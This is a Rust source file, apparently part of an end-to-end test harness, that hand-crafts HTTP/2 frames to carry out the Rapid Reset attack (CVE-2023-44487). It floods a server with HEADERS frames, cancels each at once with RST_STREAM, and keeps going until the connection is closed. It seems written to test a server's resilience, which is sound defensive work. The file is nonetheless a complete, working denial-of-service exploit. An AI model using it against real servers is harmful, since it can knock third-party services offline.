//! Requests that are taken back as soon as they are sent (CVE-2023-44487). Written by
//! hand, as h2 does not send what is taken back before it has left.

use std::{
    future::poll_fn,
    io,
    pin::Pin,
    task::{Context, Poll},
};

use tokio::{
    io::{AsyncRead, AsyncWrite, AsyncWriteExt as _, ReadBuf},
    task::yield_now,
};

use crate::e2e::protocol::Storm;

/// What a client begins with (RFC 9113 section 3.4): settings, of which none are its own.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// Rages on one connection until the server ends it.
pub(super) async fn ride(mut stream: impl AsyncRead + AsyncWrite + Unpin, storm: &Storm) {
    // However it ends, the server has had enough of it.
    let _ended = rage(&mut stream, storm).await;
}

async fn rage(stream: &mut (impl AsyncRead + AsyncWrite + Unpin), storm: &Storm) -> io::Result<()> {
    stream.write_all(PREFACE).await?;
    let mut next = 1;
    let mut bytes = Vec::new();
    while next < i32::MAX.unsigned_abs() - 2 * Storm::BURST {
        bytes.clear();
        for _ in 0..Storm::BURST {
            push_request(&mut bytes, next);
            next += 2;
        }
        stream.write_all(&bytes).await?;
        stream.flush().await?;
        storm.reset_burst();
        // What has come is read, so that the server is not kept from writing.
        poll_fn(|context| poll_discard(stream, context)).await?;
        yield_now().await;
    }
    Ok(())
}

/// A request for `/auth` with nothing to look at, and its end: HEADERS, then RST_STREAM
/// with CANCEL. The head is of literals that nobody need remember, but for what every
/// client knows (RFC 7541 appendix A).
fn push_request(bytes: &mut Vec<u8>, stream: u32) {
    const HEAD: &[u8; 16] = b"\x82\x86\x04\x05/auth\x01\x05bench";
    const END_STREAM_AND_HEADERS: u8 = 0x05;
    const CANCEL: u8 = 0x08;
    bytes.extend([0, 0, 16, 0x01, END_STREAM_AND_HEADERS]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(HEAD);
    bytes.extend([0, 0, 4, 0x03, 0]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend([0, 0, 0, CANCEL]);
}

fn poll_discard(
    stream: &mut (impl AsyncRead + Unpin),
    context: &mut Context<'_>,
) -> Poll<io::Result<()>> {
    let mut room = [0; 4096];
    loop {
        let mut buffer = ReadBuf::new(&mut room);
        match Pin::new(&mut *stream).poll_read(context, &mut buffer) {
            Poll::Ready(Ok(())) if buffer.filled().is_empty() => {
                return Poll::Ready(Err(io::ErrorKind::UnexpectedEof.into()));
            }
            Poll::Ready(Ok(())) => {}
            Poll::Ready(Err(error)) => return Poll::Ready(Err(error)),
            // Nothing is waited for.
            Poll::Pending => return Poll::Ready(Ok(())),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_as_long_as_they_say() {
        let mut bytes = Vec::new();
        push_request(&mut bytes, 5);
        let (head, reset) = bytes.split_at(9 + 16);
        assert_eq!((head[2], head.len()), (16, 25));
        assert_eq!((reset[2], reset.len()), (4, 13));
        assert_eq!((&head[5..9], &reset[5..9]), (&[0, 0, 0, 5][..], &[0, 0, 0, 5][..]));
    }
}
